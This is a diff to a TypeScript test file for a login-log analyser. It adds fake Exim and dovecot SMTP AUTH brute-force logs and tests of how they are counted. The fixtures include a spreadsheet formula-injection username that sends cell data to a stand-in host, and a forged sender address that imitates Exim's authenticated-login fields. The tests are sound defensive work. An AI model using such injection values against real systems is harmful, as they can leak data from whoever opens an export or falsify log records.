@@ -85,6 +85,44 @@ function smtpAuthMorning(authVerbose: boolean, secondPassdbUsers = 1): { lines: 
   return { lines, smtp };
 }
 
+/**
+ * A morning of SMTP AUTH tries against Exim (cPanel's setup: Exim asks dovecot's auth process, through its
+ * dovecot_login and dovecot_plain authenticators), as Exim's main log holds them (`exim`, with Exim's own stamp),
+ * and dovecot's auth lines of the same tries (`dovecot`, syslog's maillog; auth_verbose=yes), each a moment before
+ * Exim's line, which comes once dovecot answered. `syslog` writes Exim's lines as syslog does (after its
+ * `exim[pid]:` tag, with Exim's stamp kept) for a file that holds both.
+ */
+function eximMorning(syslog = false): { exim: string[]; dovecot: string[]; tries: { ip: string; user: string; password: string }[]; logins: { ip: string; user: string }[] } {
+  const exim: string[] = [];
+  const dovecot: string[] = [];
+  const tries: { ip: string; user: string; password: string }[] = [];
+  const clock = (secs: number): string => `09:${String(Math.floor(secs / 60)).padStart(2, '0')}:${String(secs % 60).padStart(2, '0')}`;
+  const eximLine = (secs: number, text: string): string =>
+    syslog ? `Mar  4 ${clock(secs)} mail exim[${4000 + secs}]: 2024-03-04 ${clock(secs)} ${text}` : `2024-03-04 ${clock(secs)} ${text}`;
+  for (let k = 0; k < 5; k++) {
+    const ip = `198.51.100.${120 + k}`;
+    const t = k * 30;
+    exim.push(eximLine(t, `SMTP connection from (User) [${ip}]:${50000 + k} (TCP/IP connection count = 3)`));
+    for (const [n, user] of [`info${k}@example.org`, `=HYPERLINK("http://x/"&A1)`].entries()) {
+      const password = `Winter202${k}${n}`;
+      tries.push({ ip, user, password });
+      dovecot.push(`Mar  4 ${clock(t + 1 + 3 * n)} mail dovecot: auth: passwd-file(${user},${ip}): unknown user (given password: ${password})`);
+      exim.push(eximLine(t + 3 + 3 * n, `dovecot_${n ? 'plain' : 'login'} authenticator failed for ${k % 2 ? 'H=' : ''}(User) [${ip}]:${50000 + k}: 535 Incorrect authentication data (set_id=${user})`));
+    }
+    exim.push(eximLine(t + 9, `SMTP connection from (User) [${ip}]:${50000 + k} lost D=9s`));
+  }
+  // Not tries: dovecot's auth socket was away; a client that sent AUTH where it is not offered.
+  exim.push(eximLine(200, 'dovecot_login authenticator failed for (User) [203.0.113.99]:51000: 435 Unable to authenticate at present (set_id=x): failed to connect to socket /var/run/dovecot/auth-client'));
+  exim.push(eximLine(201, 'H=(User) [203.0.113.98]:51001 rejected AUTH: authentication is not advertised'));
+  // A user who got in sends a message (Exim writes one line per message), and it is delivered.
+  exim.push(eximLine(240, '1rABCD-0000000123-ABCD <= alice@example.org H=(laptop) [192.0.2.50]:40000 I=[192.0.2.1]:587 P=esmtpsa X=TLS1.3:TLS_AES_256_GCM_SHA384:256 CV=no A=dovecot_login:alice@example.org S=2048 id=1@example.org'));
+  exim.push(eximLine(241, '1rABCD-0000000123-ABCD => bob@example.net R=dnslookup T=remote_smtp H=mx.example.net [203.0.113.25] C="250 OK"'));
+  exim.push(eximLine(241, '1rABCD-0000000123-ABCD Completed'));
+  // A message without SMTP AUTH whose sender and subject a client chose to look like Exim's fields of one.
+  exim.push(eximLine(250, '1rABCE-0000000124-ABCD <= "x H=(a) [192.0.2.66]:1 P=esmtpsa A=dovecot_login:ceo"@example.com H=(spam) [203.0.113.97]:40001 P=esmtp S=99 T="A=dovecot_login:ceo"'));
+  return { exim, dovecot, tries, logins: [{ ip: '192.0.2.50', user: 'alice@example.org' }] };
+}
+
 async function freshEngine(parseWorker?: string): Promise<Engine> {
   const engine = new Engine({ parseWorker });
   // As the engine's thread does for its hosts: the parse threads are already loading when the first file comes.
@@ -1313,6 +1351,61 @@ describe.each(PARSERS)('%s', (_mode, parseWorker) => {
       expect(result.attemptsAdded).toBe(smtp.length + 6);
       const dovecotLog = result.sources.find((r) => r.path.endsWith('dovecot.log'))!;
       expect(dovecotLog.notes.join()).toMatch(/12 attempts of it were the refusal of a first passdb whose next one let the user in \(the login is in .*mail\.log\)/);
+    });
+  });
+
+  describe('Exim\'s main log, where Exim asks dovecot\'s auth process for SMTP AUTH (cPanel)', () => {
+    const attemptRows = (engine: Engine, dir: string) => viewRows(engine, dir, 'SELECT ip, user, password, service, source FROM attempt ORDER BY ts, line');
+    const loginRows = (engine: Engine, dir: string) => viewRows(engine, dir, 'SELECT ip, user, service FROM login ORDER BY ts, line');
+
+    /** Writes `files` to a folder of their own and ingests it into a new engine. */
+    async function ingestFiles(folder: string, files: Record<string, string[]>) {
+      const dir = path.join(modeDir, folder);
+      fs.mkdirSync(dir, { recursive: true });
+      for (const [name, lines] of Object.entries(files)) fs.writeFileSync(path.join(dir, name), lines.join('\n') + '\n');
+      const engine = await freshEngine(parseWorker);
+      const result = await engine.ingest([dir], { year: 2024 });
+      return { dir, engine, result };
+    }
+
+    it('counts each refused try of exim_mainlog alone (dovecot\'s default auth_verbose=no), with its set_id as the user, and a message sent after AUTH as a login', async () => {
+      const { exim, tries, logins } = eximMorning();
+      const { dir, engine, result } = await ingestFiles('exim-alone', { exim_mainlog: exim });
+      const [report] = result.sources;
+      expect(report).toMatchObject({ lines: exim.length, attemptLines: tries.length, attempts: tries.length, loginLines: 1, logins: 1, unparsedLines: 0 });
+      accounted(report);
+      expect((await attemptRows(engine, dir)).map(({ ip, user, password, service }) => ({ ip, user, password, service })))
+        .toEqual(tries.map(({ ip, user }) => ({ ip, user, password: null, service: 'smtp' })));
+      expect(await loginRows(engine, dir)).toEqual(logins.map((l) => ({ ...l, service: 'smtp' })));
+      await engine.dispose();
+    });
+
+    it('counts a try once where syslog wrote dovecot\'s auth line and Exim\'s line of it to one file, with dovecot\'s password and Exim\'s service', async () => {
+      const { exim, dovecot, tries } = eximMorning(true);
+      // syslog writes both programs' lines to one file in the order they came: by their stamps (dovecot's first within a second).
+      const stamp = (line: string): string => line.slice(7, 15);
+      const lines = [...dovecot, ...exim].sort((a, b) => stamp(a).localeCompare(stamp(b)));
+      const { dir, engine, result } = await ingestFiles('exim-syslog', { 'mail.log': lines });
+      const [report] = result.sources;
+      expect(report).toMatchObject({ lines: lines.length, attemptLines: 2 * tries.length, attempts: tries.length, logins: 1, unparsedLines: 0 });
+      accounted(report);
+      expect((await attemptRows(engine, dir)).map(({ ip, user, password, service }) => ({ ip, user, password, service })))
+        .toEqual(tries.map((t) => ({ ...t, service: 'smtp' })));
+      await engine.dispose();
+    });
+
+    it('counts once the tries that exim_mainlog and dovecot\'s lines in maillog beside it both hold (auth_verbose=yes)', async () => {
+      const { exim, dovecot, tries } = eximMorning();
+      const { dir, engine, result } = await ingestFiles('exim-beside-maillog', { exim_mainlog: exim, maillog: dovecot });
+      expect(result.attemptsAdded).toBe(tries.length);
+      const mainlog = result.sources.find((r) => r.path.endsWith('exim_mainlog'))!;
+      expect([mainlog.attemptLines, mainlog.attempts]).toEqual([tries.length, 0]);
+      expect(mainlog.notes.join()).toMatch(/^10 attempts of it are SMTP AUTH tries that .*maillog holds too \(the mail server's word, postfix's or Exim's, /);
+      // maillog's rows stay, with the password, and take Exim's service.
+      const rows = await attemptRows(engine, dir);
+      expect(rows.map(({ ip, user, password, service }) => ({ ip, user, password, service }))).toEqual(tries.map((t) => ({ ...t, service: 'smtp' })));
+      expect(rows.every((r) => String(r.source).endsWith('maillog'))).toBe(true);
+      await engine.dispose();
     });
   });
 
@@ -2548,7 +2641,7 @@ describe.each(PARSERS)('%s', (_mode, parseWorker) => {
       // Found in a folder given whole, beside the logs: said, not warned of.
       expect([by('dovecot.conf').warnings, by('dovecot.conf').notes]).toEqual([[], [expect.stringMatching(/^does not look like a log/)]]);
       expect([by('quiet.log').warnings, by('quiet.log').notes]).toEqual([[], [
-        "no login or failed login in its 1 line: Swarmscope reads dovecot's, postfix's and sshd's, which they write to mail.log, auth.log or secure",
+        "no login or failed login in its 1 line: Swarmscope reads dovecot's, postfix's, Exim's and sshd's, which they write to mail.log, exim4/mainlog (exim_mainlog), auth.log or secure",
       ]]);
       expect(by('broken.zip').bytes).toBe(204);
       // Every path the result names is in the list of files, the unreadable ones failed with the reason.
